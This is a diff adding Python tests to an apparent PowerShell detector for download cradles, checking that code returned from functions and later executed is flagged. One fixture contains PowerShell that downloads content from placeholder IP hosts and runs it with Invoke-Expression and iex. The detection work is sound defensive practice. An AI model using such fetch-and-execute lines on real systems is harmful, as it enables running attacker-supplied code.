@@ -89,3 +89,39 @@ def test_a_hashtable_not_splatted_into_start_process_is_no_process() -> None:
         Invoke-Command @psi
     """)
     assert lines_of(result, "PSEncodedCommand") == []
+
+
+def test_content_a_function_returns_is_followed_to_its_callers_execution() -> None:
+    result = analyze("""
+        function Get-Stage {
+            param([string]$Uri)
+            try { return Invoke-RestMethod -Uri $Uri -TimeoutSec 15 } catch { Start-Sleep 5 }
+        }
+        function Get-Body([string]$Uri) {
+            $body = (New-Object Net.WebClient).DownloadString($Uri)
+            return $body
+        }
+        $payload = Get-Stage -Uri 'http://198.51.100.47:8080/upd'
+        if ($payload) { Invoke-Expression -Command $payload }
+        iex (Get-Body 'http://198.51.100.4/a')
+    """)
+    assert lines_of(result, "PSDownloadCradle") == [3, 6]
+
+
+def test_content_a_function_returns_to_callers_that_only_read_it_is_no_cradle() -> None:
+    result = analyze("""
+        function Get-Config {
+            param([string]$Uri)
+            return Invoke-RestMethod -Uri $Uri
+        }
+        function Invoke-Step([string]$Uri) {
+            $data = Invoke-RestMethod -Uri $Uri
+            Write-Output $data.Name
+            return 'done'
+        }
+        $cfg = Get-Config -Uri 'https://api.example.com/config'
+        $state = Invoke-Step -Uri 'https://api.example.com/step'
+        Invoke-Expression -Command "Write-Output $($state.Length)"
+        Write-Output $cfg.Name
+    """)
+    assert lines_of(result, "PSDownloadCradle") == []
